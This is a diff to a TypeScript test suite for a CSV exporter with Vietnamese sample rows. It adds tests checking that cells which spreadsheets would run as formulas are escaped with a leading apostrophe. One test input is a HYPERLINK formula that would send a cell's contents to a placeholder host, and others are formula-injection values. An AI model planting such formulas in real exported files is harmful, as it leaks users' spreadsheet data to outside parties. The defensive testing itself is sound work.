@@ -43,8 +43,22 @@ describe('rows', () => {
         const csv = renderCsv(columns, rows);
         expect(csv.startsWith('\ufeff')).toBe(true);
         const back = parseCsv(csv.slice(1));
-        expect(back).toEqual([['Đơn vị', 'Số'], ...rows.map((row) => [row.a, row.b === null ? '' : String(row.b)])]);
+        const cells = (row: string[]) => row.map((cell) => cell.replace(/^'(?=[\t\r]|\s*[=+\-@])/, ''));
+        expect(back.map(cells)).toEqual([['Đơn vị', 'Số'], ...rows.map((row) => cells([row.a, row.b === null ? '' : String(row.b)]))]);
       }),
     );
+  });
+
+  test.each([
+    ['=HYPERLINK("http://x.example/?a="&A1,"Bấm")', true],
+    ['- Đề nghị hỗ trợ', true],
+    [' @SUM(A1)', true],
+    ['+ 2 buôn chưa có sóng', true],
+    ['-3,2%', false],
+    ['+1.200', false],
+    ['Xã Ea Kar = 2 buôn', false],
+  ])('what Excel would run as a formula is text in CSV: %s', (text, guarded) => {
+    const [, [cell]] = parseCsv(renderCsv(columns, [{ a: text, b: 1 }]).slice(1)) as [string[], string[]];
+    expect(cell).toBe(guarded ? `'${text}` : text);
   });
 });
